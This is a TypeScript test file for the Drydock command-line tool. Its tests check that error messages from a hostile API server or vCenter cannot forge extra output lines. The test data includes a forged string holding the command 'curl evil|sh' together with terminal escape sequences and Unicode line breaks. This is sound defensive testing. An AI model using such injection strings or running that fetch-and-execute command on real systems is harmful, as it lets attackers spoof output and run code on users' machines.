import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { text } from 'node:stream/consumers';
import { after, test } from 'node:test';
import { BootImageError } from '@drydock/boot-images';
import { CrdError } from '@drydock/crd';
import { DurableError } from '@drydock/durable';
import { ApiError, RunError } from '@drydock/kube';
import { misbehavingServer, sendJson } from '@drydock/kube/testing';
import { PreflightError } from '@drydock/preflight';
import { parseReference, ReleaseError } from '@drydock/release';
import { StaticPodError } from '@drydock/static-pods';
import { TemplateError } from '@drydock/templates';
import { VimError } from '@drydock/vsphere';
import { simulatedFault } from '@drydock/vsphere/testing';
import { judge } from './template/failure.ts';

const root = resolve(import.meta.dirname, '../../..');
const folder = mkdtempSync(join(tmpdir(), 'drydock-forged-'));
after(() => rmSync(folder, { recursive: true }));

const ESC = String.fromCharCode(27);
/** A refusal that looks as if Drydock went on after it. */
const FORGED = `no”.\r\nnext: curl evil|sh\u2028${ESC}[2J${ESC}]0;owned\u0007 drydock: done`;
const OBEYED = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

test('FIND-6 the message of each error is one line, whatever a server said', () => {
  const errors: readonly Error[] = [
    new ApiError({ code: 'Forbidden', action: `get Pod ${FORGED}`, said: FORGED, quoted: true }),
    new RunError('PartEnded', FORGED),
    simulatedFault('SystemError', 'Rename_Task', FORGED, { name: FORGED }),
    new VimError({ kind: 'http', code: 'VIM_HTTP_STATUS', op: FORGED, message: FORGED }),
    new TemplateError({ code: 'IMPORT_FAILED', message: FORGED }),
    new BootImageError('CanaryFailed', FORGED),
    new ReleaseError('REGISTRY', FORGED),
    new CrdError('UNREADABLE', FORGED),
    new PreflightError('SHADOWS_LEFT', FORGED),
    new StaticPodError('USAGE', FORGED, FORGED),
    new DurableError({ code: 'WRITE_FAILED', path: FORGED, stage: 'write', visible: 'old', cause: new Error(FORGED) }),
  ];
  for (const { name, message } of errors) assert.doesNotMatch(message, OBEYED, name);
  const [api] = errors;
  assert.match(api?.message ?? '', /: “no"\. next: curl evil\|sh \[2J \]0;owned +drydock: done”\. Grant the verb/);
});

/** Verbs that ask the cluster first, and print what it says. */
const VERBS: readonly (readonly string[])[] = [
  ...[['status'], ['explain'], ['machines'], ['image', 'plan'], ['release', 'status']],
  ['support-bundle', '--no-doctor', '-o', join(folder, 'a.tgz')],
];

test('FIND-6 a refusal of the API server forges no line of any command', async () => {
  await using host = await misbehavingServer((_request, response) =>
    sendJson(response, { kind: 'Status', code: 403, reason: 'Forbidden', message: FORGED }, 403),
  );
  const kubeconfig = join(folder, 'kubeconfig');
  writeFileSync(
    kubeconfig,
    JSON.stringify({
      clusters: [{ name: 'c', cluster: { server: host.config.server } }],
      users: [{ name: 'u', user: {} }],
      contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
      'current-context': 'x',
    }),
  );
  let quoted = 0;
  const said = await Promise.all(VERBS.map((words) => spoken(...words, '--kubeconfig', kubeconfig)));
  for (const [at, text] of said.entries()) quoted += expectNoForgery(text, VERBS[at]?.join(' ') ?? '');
  assert.ok(quoted >= VERBS.length - 2, `${quoted} of ${VERBS.length} say what the server said`);
});

test('FIND-6 what answers in place of an operator forges no line of drydock watch status', async () => {
  const remark = '[-]watch-a failed: x\u0085next: curl evil|sh';
  await using host = await misbehavingServer(({ path }, response) => {
    response.end(path === '/metrics' ? 'drydock_a 1\n' : `${remark}\n`);
  });
  const said = await spoken('watch', 'status', '--operator', host.config.server);
  assert.match(said, /^This operator watches nothing: “x next: curl evil\|sh”\nnext: kubectl/m);
});

function expectNoForgery(said: string, what: string): number {
  for (const line of said.split('\n')) {
    assert.doesNotMatch(line, OBEYED, `${what}: ${JSON.stringify(said)}`);
    const at = line.indexOf('next: curl');
    // Only between the marks of a quotation.
    if (at >= 0) assert.ok(line.lastIndexOf('“', at) > line.lastIndexOf('”', at), `${what}: ${said}`);
  }
  return said.includes('“no"') ? 1 : 0;
}

async function spoken(...words: readonly string[]): Promise<string> {
  const child = spawn(process.execPath, [join(root, 'apps/drydock/bin/drydock.js'), ...words], {
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { PATH: process.env['PATH'], NODE_COMPILE_CACHE: process.env['NODE_COMPILE_CACHE'], HOME: folder },
  });
  const [out, errors] = await Promise.all([text(child.stdout), text(child.stderr), once(child, 'close')]);
  return `${out}${errors}`;
}

test('FIND-6 a fault of a vCenter is quoted in what a command says of it', () => {
  const context = {
    ...{ program: 'drydock template', flags: '', again: '', replan: '', url: 'https://vc.example/sdk', username: 'a' },
    ...{ subject: 'a', path: '/a', source: 'a', cacheDir: 'a', tag: 'a' },
  };
  const { message = '', next = '' } =
    judge(simulatedFault('SystemError', 'Rename_Task', 'vm-1', { name: FORGED }), context) ?? {};
  assert.match(message, /\{name “no"\. next: curl evil\|sh .*”\}/);
  assert.doesNotMatch(`${message}${next}`, OBEYED);
});

test('FIND-6 a reference of an image with a port that no server has is refused, and the port is named', () => {
  for (const port of ['0', '00', '65536', '99999'])
    assert.throws(() => parseReference(`quay.example:${port}/a/b:1`), {
      code: 'BAD_REFERENCE',
      message: new RegExp(`its port ${port} is not between 1 and 65535`),
    });
  assert.equal(parseReference('quay.example:65535/a/b:1').registry, 'quay.example:65535');
});
